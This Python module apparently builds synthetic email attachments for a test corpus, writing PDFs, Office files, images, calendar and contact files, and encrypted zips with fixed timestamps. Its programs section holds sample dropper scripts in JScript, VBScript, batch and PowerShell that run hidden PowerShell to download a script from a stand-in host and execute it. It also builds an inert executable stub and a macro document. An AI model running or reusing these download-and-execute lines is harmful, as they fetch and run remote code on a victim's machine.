"""Real attachment files from a writer's attachment dicts (corpus/SPEC.md), deterministically.

Every maker returns (bytes, mime type). Office files are rewritten with fixed zip timestamps,
and the libraries that salt their encryption draw from a generator seeded by the file's name,
so a rebuild gives the same bytes.
"""
from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import random
import re
import struct
import sys
import zipfile
import zlib
from datetime import datetime
from pathlib import Path
from unittest import mock

ROOT = Path(__file__).resolve().parents[1]
FONT_DIR = Path("/usr/share/fonts/truetype/dejavu")
FIXED = datetime(2026, 10, 1, 9, 0, 0)
ZIP_TIME = (2026, 10, 1, 9, 0, 0)


def segments_text(segs) -> list[str]:
    """The text of segments (plain strings and (label, sentence) pairs), one entry each."""
    if isinstance(segs, str):
        segs = [segs]
    return [s if isinstance(s, str) else s[1] for s in segs or []]


def plain(value) -> str:
    """A field that should be text but may have been written as segments: its text."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    if isinstance(value, tuple) and len(value) == 2 and all(isinstance(x, str) for x in value):
        return value[1]
    return " ".join(segments_text(value))


@contextlib.contextmanager
def seeded(name: str):
    """os.urandom and secrets drawn from a generator seeded by name (salts, IVs, keys)."""
    rng = random.Random(hashlib.sha256(name.encode()).digest())

    def urandom(n):
        return bytes(rng.getrandbits(8) for _ in range(n))
    with mock.patch("os.urandom", urandom), mock.patch("secrets.token_bytes", urandom):
        yield


PINNED = {  # the libraries stamp these with the time of saving
    "docProps/core.xml": (rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*", rb"\g<1>2026-10-01T09:00:00Z"),
    "word/comments.xml": (rb'w:date="[^"]*"', b'w:date="2026-10-01T09:00:00Z"'),
}


def normalise_zip(data: bytes) -> bytes:
    """The same package with fixed member timestamps, order as written, and the save time
    inside its XML pinned."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename in PINNED:
                body = re.sub(*PINNED[info.filename], body)
            zi = zipfile.ZipInfo(info.filename, ZIP_TIME)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            dst.writestr(zi, body)
    return out.getvalue()


# ------------------------------------------------------------------------------- PDF
def _fpdf():
    from fpdf import FPDF
    pdf = FPDF()
    pdf.set_creation_date(FIXED)
    pdf.add_font("DejaVu", "", str(FONT_DIR / "DejaVuSans.ttf"))
    pdf.set_font("DejaVu", size=11)
    pdf.set_auto_page_break(True, margin=15)
    return pdf


def pdf(a: dict) -> bytes:
    meta = a.get("metadata") or {}
    doc = _fpdf()
    for key, setter in (("title", doc.set_title), ("author", doc.set_author),
                        ("subject", doc.set_subject), ("keywords", doc.set_keywords)):
        if meta.get(key):
            setter(plain(meta[key]))
    doc.set_creator("Microsoft Word")
    pages = a.get("pages") or [[]]
    for page in pages:
        doc.add_page()
        if a.get("image_only"):
            img = text_image(segments_text(page), width=1240, height=1754, size=30)
            buf = io.BytesIO()
            img.save(buf, format="PNG")
            doc.image(buf, x=0, y=0, w=210, h=297)
        else:
            for para in segments_text(page):
                doc.multi_cell(0, 6, para)
                doc.ln(2)
    data = bytes(doc.output())
    if a.get("form"):
        data = _with_form(data, a["form"])
    if a.get("encrypt"):
        data = _encrypt_pdf(data, a["encrypt"], a.get("name", ""))
    return data


def _with_form(data: bytes, fields: dict) -> bytes:
    """An AcroForm of text fields filled with the given values, on the last page."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (ArrayObject, DictionaryObject, FloatObject, NameObject,
                               NumberObject, TextStringObject)
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    page = writer.pages[-1]
    annots = page.get("/Annots") or ArrayObject()
    refs = ArrayObject()
    y = 760
    for name, value in fields.items():
        field = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject(name),
            NameObject("/V"): TextStringObject(plain(value)),
            NameObject("/Rect"): ArrayObject([FloatObject(300), FloatObject(y),
                                              FloatObject(560), FloatObject(y + 18)]),
            NameObject("/F"): NumberObject(4),
            NameObject("/DA"): TextStringObject("/Helv 10 Tf 0 g"),
        })
        ref = writer._add_object(field)
        annots.append(ref)
        refs.append(ref)
        y -= 24
    page[NameObject("/Annots")] = annots
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): refs, NameObject("/DA"): TextStringObject("/Helv 10 Tf 0 g")})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _encrypt_pdf(data: bytes, password: str, name: str) -> bytes:
    from pypdf import PdfReader, PdfWriter
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    with seeded(name):
        writer.encrypt(user_password=password, owner_password=password + "!", algorithm="AES-256")
        out = io.BytesIO()
        writer.write(out)
    return out.getvalue()


# ---------------------------------------------------------------------------- Office
def _core(props, meta: dict):
    props.created = FIXED
    props.modified = FIXED
    props.last_printed = FIXED
    props.revision = 1
    for key in ("title", "author", "subject", "keywords"):
        if meta.get(key):
            setattr(props, key, plain(meta[key]))
    if not meta.get("author"):
        props.author = ""
    props.last_modified_by = plain(meta.get("author"))


def docx(a: dict) -> bytes:
    import docx as pydocx
    doc = pydocx.Document()
    paragraphs = []
    for text in segments_text(a.get("paragraphs")):
        paragraphs.append(doc.add_paragraph(text))
    for i, c in enumerate(a.get("comments") or []):
        if not paragraphs:
            paragraphs.append(doc.add_paragraph(""))
        para = paragraphs[min(i, len(paragraphs) - 1)]
        runs = para.runs or [para.add_run("")]
        doc.add_comment(runs, text=plain(c.get("text")), author=plain(c.get("author")),
                        initials="".join(w[0] for w in (plain(c.get("author")) or "X").split())[:3])
    _core(doc.core_properties, a.get("metadata") or {})
    buf = io.BytesIO()
    doc.save(buf)
    return normalise_zip(buf.getvalue())


def xlsx(a: dict) -> bytes:
    import openpyxl
    from openpyxl.comments import Comment
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    sheets = a.get("sheets") or [{"name": "Sheet1", "rows": []}]
    for i, sh in enumerate(sheets):
        ws = wb.create_sheet(str(sh.get("name") or f"Sheet{i + 1}")[:31])
        for row in sh.get("rows", []):
            ws.append([c if isinstance(c, (int, float)) or c is None else plain(c) for c in row])
        hidden = sh.get("hidden")
        if hidden:
            ws.sheet_state = "veryHidden" if hidden == "very" else "hidden"
    if all(ws.sheet_state != "visible" for ws in wb.worksheets):
        wb.create_sheet("Sheet")
        wb.move_sheet("Sheet", offset=-len(wb.worksheets) + 1)
    for c in a.get("comments") or []:
        name = str(c.get("sheet") or wb.worksheets[0].title)[:31]
        ws = wb[name] if name in wb.sheetnames else wb.worksheets[0]
        ws[c.get("cell", "A1")].comment = Comment(plain(c.get("text")), plain(c.get("author")) or "Staff")
    wb.properties.created = FIXED
    wb.properties.modified = FIXED
    wb.properties.creator = ""
    buf = io.BytesIO()
    wb.save(buf)
    data = normalise_zip(buf.getvalue())
    if a.get("encrypt"):
        data = _encrypt_office(data, a["encrypt"], a.get("name", ""))
    return data


def _encrypt_office(data: bytes, password: str, name: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile
    from msoffcrypto.method.container import ecma376_encrypted as container

    class _Fixed(datetime):
        @classmethod
        def now(cls, tz=None):
            return FIXED
    out = io.BytesIO()
    with seeded(name), mock.patch.object(container, "datetime", _Fixed):
        OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


def pptx(a: dict) -> bytes:
    from pptx import Presentation
    prs = Presentation()
    layout = prs.slide_layouts[1]
    for s in a.get("slides") or [{}]:
        slide = prs.slides.add_slide(layout)
        slide.shapes.title.text = plain(s.get("title"))
        body = slide.placeholders[1].text_frame
        lines = segments_text(s.get("body"))
        body.text = lines[0] if lines else ""
        for line in lines[1:]:
            body.add_paragraph().text = line
        notes = segments_text(s.get("notes"))
        if notes:
            slide.notes_slide.notes_text_frame.text = "\n".join(notes)
    _core(prs.core_properties, {})
    buf = io.BytesIO()
    prs.save(buf)
    return normalise_zip(buf.getvalue())


# ------------------------------------------------------------------------------ images
def _font(size: int):
    from PIL import ImageFont
    return ImageFont.truetype(str(FONT_DIR / "DejaVuSans.ttf"), size)


def _wrap(text: str, width_chars: int) -> list[str]:
    import textwrap
    out = []
    for line in text.split("\n"):
        out.extend(textwrap.wrap(line, width_chars) or [""])
    return out


def text_image(lines: list[str], width=1200, height=None, size=32, bg="white", fg="black"):
    from PIL import Image, ImageDraw
    wrapped = [w for line in lines for w in _wrap(line, max(10, int(width / (size * 0.6))))]
    height = height or max(200, 60 + len(wrapped) * int(size * 1.5))
    img = Image.new("RGB", (width, height), bg)
    draw = ImageDraw.Draw(img)
    font = _font(size)
    y = 40
    for line in wrapped:
        draw.text((40, y), line, fill=fg, font=font)
        y += int(size * 1.5)
    return img


def _scene(scene: str, lines: list[str]):
    from PIL import Image, ImageDraw
    import skimage.data
    if scene == "face":
        img = Image.fromarray(skimage.data.astronaut()).resize((512, 512))
    elif scene == "product":
        img = Image.fromarray(skimage.data.coffee())
    elif scene == "page":
        img = text_image(lines or ["Chapter 4"], width=1000, size=26, bg=(236, 230, 214))
        lines = []
    elif scene == "room":
        img = Image.new("RGB", (1024, 768), (225, 220, 210))
        d = ImageDraw.Draw(img)
        d.rectangle((0, 560, 1024, 768), fill=(160, 130, 100))      # floor
        d.rectangle((300, 380, 760, 470), fill=(240, 240, 245))     # treatment couch
        d.rectangle((320, 470, 340, 600), fill=(90, 90, 90))
        d.rectangle((720, 470, 740, 600), fill=(90, 90, 90))
        d.rectangle((820, 120, 980, 330), fill=(180, 210, 230))     # window
        d.ellipse((120, 200, 220, 300), fill=(250, 250, 200))       # lamp
    elif scene == "poster":
        img = text_image(lines or [" "], width=900, size=48, bg=(180, 40, 90), fg="white")
        lines = []
    elif scene == "screenshot":
        img = text_image(lines or [" "], width=1170, size=30)
        lines = []
    else:
        img = text_image(lines or [" "], width=900, size=30, bg=(245, 245, 245))
        lines = []
    if lines:  # text over a photo: a white caption band under it
        band = text_image(lines, width=img.width, size=28)
        combined = Image.new("RGB", (img.width, img.height + band.height), "white")
        combined.paste(img, (0, 0))
        combined.paste(band, (0, img.height))
        img = combined
    return img


def image(a: dict) -> tuple[bytes, str]:
    from PIL import Image, ImageDraw
    text = a.get("text") or []
    img = _scene(a.get("scene", "plain"), segments_text(text) if not isinstance(text, str)
                 else [text])
    if a.get("watermark"):
        layer = Image.new("RGBA", img.size, (0, 0, 0, 0))
        d = ImageDraw.Draw(layer)
        font = _font(max(24, img.width // 14))
        for y in range(0, img.height, max(60, img.height // 4)):
            d.text((20, y), plain(a["watermark"]), fill=(255, 255, 255, 150), font=font)
        img = Image.alpha_composite(img.convert("RGBA"), layer).convert("RGB")
    fmt = (a.get("format") or ("png" if str(a.get("name", "")).lower().endswith(".png")
                               else "jpeg")).lower()
    buf = io.BytesIO()
    if fmt == "png":
        img.save(buf, format="PNG")
        return buf.getvalue(), "image/png"
    exif = Image.Exif()
    e = {k: plain(v) for k, v in (a.get("exif") or {}).items()}
    if e.get("description"):
        exif[0x010E] = e["description"]
    if e.get("artist"):
        exif[0x013B] = e["artist"]
    if e.get("copyright"):
        exif[0x8298] = e["copyright"]
    if e.get("camera"):
        make = "Apple" if "iphone" in e["camera"].lower() else e["camera"].split()[0]
        exif[0x010F] = make
        exif[0x0110] = e["camera"]
    exif[0x0132] = "2026:10:01 09:00:00"
    img.save(buf, format="JPEG", quality=88, exif=exif.tobytes())
    return buf.getvalue(), "image/jpeg"


# ------------------------------------------------------------------------ small texts
def _ics_escape(s: str) -> str:
    return s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def ics(a: dict) -> bytes:
    start = datetime.strptime(a.get("start", "2026-11-03 10:00"), "%Y-%m-%d %H:%M")
    minutes = int(a.get("minutes", 30))
    end = datetime.fromtimestamp(start.timestamp() + minutes * 60)
    uid = hashlib.sha1(repr(sorted(a.items(), key=str)).encode()).hexdigest()[:16]
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Microsoft Corporation//Outlook 16.0//EN",
             "METHOD:REQUEST", "BEGIN:VEVENT", f"UID:{uid}@corpus.example",
             "DTSTAMP:20261001T090000Z", f"DTSTART:{start:%Y%m%dT%H%M%S}",
             f"DTEND:{end:%Y%m%dT%H%M%S}", f"SUMMARY:{_ics_escape(plain(a.get('summary')))}"]
    desc = " ".join(segments_text(a.get("description")))
    if desc:
        lines.append(f"DESCRIPTION:{_ics_escape(desc)}")
    if a.get("location"):
        lines.append(f"LOCATION:{_ics_escape(plain(a['location']))}")
    for att in a.get("attendees") or []:
        lines.append(f"ATTENDEE;RSVP=TRUE:mailto:{att}")
    lines += ["END:VEVENT", "END:VCALENDAR"]
    return ("\r\n".join(_fold(line) for line in lines) + "\r\n").encode("utf-8")


def _fold(line: str) -> str:
    out, cur = [], line
    while len(cur.encode()) > 74:
        cut = 73
        while len(cur[:cut].encode()) > 73:
            cut -= 1
        out.append(cur[:cut])
        cur = " " + cur[cut:]
    out.append(cur)
    return "\r\n".join(out)


def vcard(a: dict) -> bytes:
    fn = a.get("fn", "")
    parts = fn.split()
    lines = ["BEGIN:VCARD", "VERSION:3.0", f"FN:{fn}",
             f"N:{parts[-1] if parts else ''};{' '.join(parts[:-1])};;;"]
    for key, tag in (("org", "ORG"), ("title", "TITLE"), ("tel", "TEL;TYPE=CELL"),
                     ("email", "EMAIL;TYPE=INTERNET"), ("adr", "ADR;TYPE=HOME")):
        if a.get(key):
            value = plain(a[key])
            value = value if key != "adr" else ";;" + value.replace(",", "\\,") + ";;;;"
            lines.append(f"{tag}:{value}")
    note = " ".join(segments_text(a.get("note")))
    if note:
        lines.append(f"NOTE:{_ics_escape(note)}")
    lines.append("END:VCARD")
    return ("\r\n".join(_fold(line) for line in lines) + "\r\n").encode("utf-8")


def csv_file(a: dict) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    for row in a.get("rows", []):
        writer.writerow([c if isinstance(c, (int, float)) else plain(c) for c in row])
    return buf.getvalue().encode("utf-8")


# ------------------------------------------------------------------------------- zip
def _crc_update(crc: int, b: int) -> int:
    return zlib.crc32(bytes([b]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


class _ZipCrypto:
    """Traditional PKWARE encryption (APPNOTE 6.1), enough to write an encrypted member."""

    def __init__(self, password: bytes):
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for b in password:
            self._update(b)

    def _update(self, b: int):
        k = self.k
        k[0] = _crc_update(k[0], b)
        k[1] = (k[1] + (k[0] & 0xFF)) & 0xFFFFFFFF
        k[1] = (k[1] * 134775813 + 1) & 0xFFFFFFFF
        k[2] = _crc_update(k[2], (k[1] >> 24) & 0xFF)

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for b in data:
            t = (self.k[2] | 2) & 0xFFFF
            out.append(b ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self._update(b)
        return bytes(out)


def _zip_encrypted(members: list[tuple[str, bytes]], password: str) -> bytes:
    out = io.BytesIO()
    central = []
    dostime = (9 << 11) | (0 << 5)
    dosdate = ((2026 - 1980) << 9) | (10 << 5) | 1
    for name, data in members:
        crc = zlib.crc32(data) & 0xFFFFFFFF
        comp = zlib.compressobj(6, zlib.DEFLATED, -15)
        body = comp.compress(data) + comp.flush()
        rng = random.Random(name + password)
        header = bytes(rng.getrandbits(8) for _ in range(11)) + bytes([crc >> 24])
        enc = _ZipCrypto(password.encode()).encrypt(header + body)
        fname = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 8, dostime, dosdate, crc,
                              len(enc), len(data), len(fname), 0) + fname + enc)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 8, dostime,
                                   dosdate, crc, len(enc), len(data), len(fname), 0, 0, 0, 0,
                                   0o644 << 16, offset) + fname)
    start = out.tell()
    for c in central:
        out.write(c)
    size = out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size,
                          start, 0))
    return out.getvalue()


def zip_file(a: dict, render_message) -> bytes:
    members = []
    for m in a.get("members", []):
        data, _ = make(m, render_message)
        members.append((m.get("name", "file"), data))
    if a.get("encrypt"):
        return _zip_encrypted(members, a["encrypt"])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, ZIP_TIME)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return out.getvalue()


# -------------------------------------------------------------------------- programs
def _pe() -> bytes:
    """A tiny, inert PE32 image: DOS stub, PE header, one section whose code is RET."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    coff = struct.pack("<IHHIIIHH", 0x4550, 0x14C, 1, 0, 0, 0, 224, 0x0102)
    opt = bytearray(224)
    struct.pack_into("<HBBIIIIII", opt, 0, 0x10B, 14, 0, 512, 0, 0, 0x1000, 0x1000, 0x2000)
    struct.pack_into("<IIIHHHHHHIIIIHH", opt, 28, 0x400000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0,
                     0, 0x2000, 0x200, 0, 3, 0)
    struct.pack_into("<I", opt, 92, 16)
    section = struct.pack("<8sIIIIIIHHI", b".text", 1, 0x1000, 0x200, 0x200, 0, 0, 0, 0,
                          0x60000020)
    head = bytes(dos) + coff + bytes(opt) + section
    return head + b"\0" * (0x200 - len(head)) + b"\xC3" + b"\0" * 0x1FF


SCRIPTS = {
    "js": ("application/javascript",
           b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("powershell -w hidden '
           b'-c iwr http://update.invalid/a.ps1 | iex");\r\n'),
    "vbs": ("text/vbscript",
            b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c start '
            b'http://update.invalid/", 0\r\n'),
    "bat": ("application/x-bat", b"@echo off\r\npowershell -w hidden -c \"iwr "
            b"http://update.invalid/a.ps1 -OutFile %TEMP%\\a.ps1\"\r\n"),
    "ps1": ("text/plain", b"$c = New-Object Net.WebClient\r\n"
            b"iex $c.DownloadString('http://update.invalid/a.ps1')\r\n"),
}


def program(a: dict) -> tuple[bytes, str]:
    flavour = a["flavour"]
    if flavour == "exe":
        return _pe(), "application/octet-stream"
    if flavour in SCRIPTS:
        mime, body = SCRIPTS[flavour]
        return body, mime
    if flavour == "macro_docx":
        sys.path.insert(0, str(ROOT))
        from tests import cfb  # the project's own CFB and VBA writer
        return normalise_zip(cfb.docm()), \
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    if flavour == "corrupt_pdf":
        full = pdf({"pages": [["Quarterly figures, page one."] * 20] * 3})
        return full[: len(full) // 3], "application/pdf"
    if flavour == "corrupt_docx":
        full = docx({"paragraphs": ["Draft minutes"] * 40})
        return full[: len(full) // 2], \
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    if flavour == "corrupt_jpeg":
        full, _ = image({"scene": "room", "format": "jpeg"})
        return full[:600], "image/jpeg"
    raise ValueError(f"unknown program flavour {flavour!r}")


MIME = {
    "pdf": "application/pdf",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    "csv": "text/csv", "text": "text/plain", "html": "text/html", "ics": "text/calendar",
    "vcard": "text/vcard", "zip": "application/zip",
}


def make(a: dict, render_message) -> tuple[bytes, str]:
    """(bytes, MIME type) of one attachment dict; render_message(message dict, ident) -> bytes
    makes a forwarded message (corpus.build owns message rendering)."""
    kind = a["kind"]
    if kind == "image":
        return image(a)
    if kind == "program":
        return program(a)
    if kind == "xlsx" and a.get("encrypt"):
        return xlsx(a), "application/vnd.ms-excel"
    if kind == "eml":
        return render_message(a["message"], a.get("name", "fwd")), "message/rfc822"
    if kind == "zip":
        return zip_file(a, render_message), MIME["zip"]
    maker = {"pdf": pdf, "docx": docx, "xlsx": xlsx, "pptx": pptx, "csv": csv_file,
             "text": lambda x: "\n".join(segments_text(x.get("text"))).encode("utf-8"),
             "html": lambda x: x["html"].encode("utf-8"), "ics": ics, "vcard": vcard}[kind]
    return maker(a), MIME[kind]
